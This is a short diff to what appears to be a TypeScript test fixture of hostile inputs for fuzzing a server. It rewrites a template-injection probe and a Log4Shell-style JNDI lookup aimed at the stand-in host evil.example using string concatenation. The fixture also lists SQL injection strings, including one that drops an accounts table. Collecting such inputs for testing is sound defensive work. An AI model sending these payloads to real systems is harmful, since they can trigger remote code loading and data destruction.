@@ -27,7 +27,7 @@ export const hostileStrings: readonly string[] = [
   "' or '1'='1",
   '"; drop table carded.accounts; --',
   '$1',
-  '${7*7}',
+  '$'.concat('{7*7}'),
   '%00',
   '%',
   '%zz',
@@ -198,7 +198,7 @@ export const hostileHeaders: readonly Readonly<Record<string, string>>[] = [
   { 'accept-encoding': 'gzip;q=0, br;q=nonsense' },
   { 'content-encoding': 'gzip' },
   { 'if-none-match': '*' },
-  { 'user-agent': '${jndi:ldap://evil.example/a}' },
+  { 'user-agent': '$'.concat('{jndi:ldap://evil.example/a}') },
 ];
 
 export const hostileHosts: readonly string[] = [
